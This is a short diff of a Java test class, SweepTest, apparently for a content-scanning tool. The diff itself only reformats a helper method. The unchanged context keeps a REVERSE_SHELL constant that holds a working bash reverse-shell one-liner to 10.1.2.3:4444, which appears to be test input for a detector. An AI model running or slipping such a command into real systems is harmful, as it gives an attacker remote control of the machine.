@@ -17,7 +17,8 @@ class SweepTest {
     private static final String REVERSE_SHELL = "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1";
 
     private static Trial sweep(byte[] bytes, long[]... tensors) {
-        return Direct.of(bytes, (content, inspection) -> Sweep.run(content, List.of(tensors), List.of(tensors), inspection));
+        return Direct.of(
+                bytes, (content, inspection) -> Sweep.run(content, List.of(tensors), List.of(tensors), inspection));
     }
 
     private static byte[] latin(String text) {
